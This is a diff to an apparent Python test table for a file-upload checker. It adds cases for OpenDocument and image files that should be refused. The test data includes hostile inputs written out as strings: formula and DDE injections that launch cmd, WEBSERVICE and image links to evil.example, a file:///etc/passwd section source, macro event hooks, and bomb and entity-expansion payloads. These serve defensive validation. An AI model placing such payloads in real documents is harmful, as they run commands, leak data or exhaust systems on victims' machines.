@@ -7,12 +7,12 @@ from typing import NamedTuple
 import pikepdf
 
 from fundflow.files.checking import FORMULA
-from fundflow.files.office import BOMB, INSIDE, LINKED, LOCKED, MACROS
-from fundflow.files.parts import DAMAGED, FIELD
+from fundflow.files.office import BOMB, INSIDE
+from fundflow.files.parts import DAMAGED, FIELD, LINKED, LOCKED, MACROS
 from tests.files import samples as s
 from tests.files.samples import MEGABYTE, csv, docx, pdf, relations, xlsx, zipped
 
-KINDS = "Choose a PDF, Word (.docx), Excel (.xlsx) or CSV file"
+KINDS = "Choose a PDF, Word (.docx), Excel (.xlsx), CSV, OpenDocument (.odt or .ods), JPEG or PNG file"
 HIDDEN = "The PDF has another file hidden in it"
 EXTERNAL = "word/_rels/settings.xml.rels"
 CONNECTIONS = "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"
@@ -40,7 +40,7 @@ TABLE = (
         lambda: pdf(b" " * (10 * MEGABYTE - len(pdf()) + 1)),
         "larger than 10 MB",
     ),
-    _("a picture called a PDF", "plan.pdf", s.PNG, "ends in “.pdf”, but it is not a PDF"),
+    _("a picture called a PDF", "plan.pdf", s.PNG, "ends in “.pdf”, but it is a PNG picture"),
     _("a program called a PDF", "plan.pdf", s.EXE, "ends in “.pdf”, but it is not a PDF"),
     _("a web page called a PDF", "plan.pdf", s.HTML, "ends in “.pdf”, but it is not a PDF"),
     _("a PDF called a Word document", "plan.docx", pdf, "ends in “.docx”, but it is a PDF"),
@@ -368,6 +368,79 @@ TABLE = (
     _("the same after spaces, in quotes", "data.csv", csv("a;b\n1;\" =cmd|'/c calc'!A1\"\n"), FORMULA),
     _("the same with a plus", "data.csv", csv("a\tb\n1\t+1-cmd|'/c calc'!A1\n"), FORMULA),
     _("a CSV that fetches", "data.csv", csv('a,b\n1,"=WEBSERVICE(""https://evil.example/"")"\n'), FORMULA),
+    # OpenDocument
+    _("an OpenDocument text called a Word document", "plan.docx", s.odt, "but it is an OpenDocument text"),
+    _("a spreadsheet called a text", "plan.odt", s.ods, "but it is an OpenDocument spreadsheet"),
+    _("a template", "plan.odt", lambda: s.odt(kind=f"{s.OPEN_TEXT}-template"), "is not an OpenDocument text"),
+    _("a Word document that is also OpenDocument", "plan.docx", lambda: docx({"mimetype": b"x"}), INSIDE),
+    _("an OpenDocument file without a list", "plan.odt", lambda: zipped({"mimetype": b"x"}), DAMAGED),
+    _("half an OpenDocument file", "plan.odt", lambda: s.odt()[:200], DAMAGED),
+    _("an OpenDocument bomb", "plan.odt", lambda: s.odt(more={"Pictures/a": b"\0" * 40 * MEGABYTE}), BOMB),
+    _(
+        "OpenDocument with a password",
+        "plan.odt",
+        lambda: s.odt(manifest="<manifest:encryption-data/>"),
+        LOCKED,
+    ),
+    *(
+        _(f"a program in {part}", "plan.odt", lambda part=part: s.odt(more={part: b"<a/>"}), MACROS)
+        for part in (
+            "Basic/Standard/Module1.xml",
+            "Scripts/python/a.py",
+            "Dialogs/a.xml",
+            "Object 1/Basic/a.xml",
+        )
+    ),
+    *(
+        _(what, "plan.odt", lambda inside=inside: s.odt(inside), says)
+        for what, inside, says in (
+            (
+                "something that runs as the file opens",
+                '<office:event-listeners><script:event-listener xlink:href="x"/></office:event-listeners>',
+                MACROS,
+            ),
+            ("the same by its name", '<script:event-listener script:macro-name="a.Main"/>', MACROS),
+            ("a script in the text", "<text:script>1</text:script>", MACROS),
+            ("a field that runs a macro", '<text:execute-macro text:name="a"/>', MACROS),
+            ("a link to a macro", '<text:a xlink:href="vnd.sun.star.script:a?language=Basic"/>', MACROS),
+            ("the same, escaped", '<text:a xlink:href=" %6dacro:///a"/>', MACROS),
+            ("DDE in a text", '<text:dde-connection-decl office:dde-application="cmd"/>', FIELD),
+            ("a picture from elsewhere", '<draw:image xlink:href="https://evil.example/x.png"/>', LINKED),
+            ("a picture on a share", '<draw:image xlink:href="//evil/x.png"/>', LINKED),
+            ("the same, escaped", '<draw:image xlink:href="%5c%5cevil/x.png"/>', LINKED),
+            ("a picture from beside the file", '<draw:image xlink:href="../x.png"/>', LINKED),
+            ("a part from elsewhere", '<text:section-source xlink:href="file:///etc/passwd"/>', LINKED),
+            ("a page in the page", '<draw:floating-frame xlink:href="http://evil.example/"/>', LINKED),
+            ("a file that fetches itself anew", "<meta:auto-reload/>", FIELD),
+            ("an object from elsewhere", '<draw:object xlink:href="../../x.odt"/>', LINKED),
+            ("spoilt content", "<![CDATA[", DAMAGED),
+        )
+    ),
+    *(
+        _(f"a formula: {formula}", "plan.ods", lambda formula=formula: s.ods(formula), FIELD)
+        for formula in (
+            "of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)",
+            "of:=WEBSERVICE(&quot;https://evil.example/&quot;)",
+            "of:=cmd|'/c calc'!A1",
+            "of:='file:///C:/x.ods'#$Sheet1.A1",
+        )
+    ),
+    _("an object in OpenDocument", "plan.odt", lambda: s.odt(more={"Object 1": s.OLE}), INSIDE),
+    _("a document type in OpenDocument", "plan.odt", lambda: s.odt(more={"styles.xml": s.laughs()}), DAMAGED),
+    # photographs
+    _("half a JPEG", "a.jpg", lambda: s.photograph(size=(400, 400))[:-200], "The picture is damaged"),
+    _("half a PNG", "a.png", lambda: s.photograph("PNG", size=(400, 400))[:-60], "The picture is damaged"),
+    _("a JPEG’s first bytes", "a.jpg", b"\xff\xd8\xff" + s.HTML, "The picture is damaged"),
+    _("a JPEG called a PNG", "a.png", s.photograph, "ends in “.png”, but it is a JPEG picture"),
+    _("a web page called a JPEG", "a.jpeg", s.HTML, "ends in “.jpeg”, but it is not a JPEG picture"),
+    _(
+        "a PNG of 10,000 million pixels",
+        "a.png",
+        lambda: s.png_claiming(100_000, 100_000),
+        "60 million pixels",
+    ),
+    _("a PNG of 64 million pixels", "a.png", lambda: s.png_claiming(8_000, 8_000), "60 million pixels"),
+    _("a photograph of another kind", "a.heic", s.photograph, "ends in “.heic” can’t be attached"),
     # names
     _("two endings", "plan.pdf.exe", pdf, "ends in “.exe” can’t be attached"),
     _("two endings, the good one last", "plan.exe.pdf", pdf, "two endings, “.exe” and “.pdf”"),
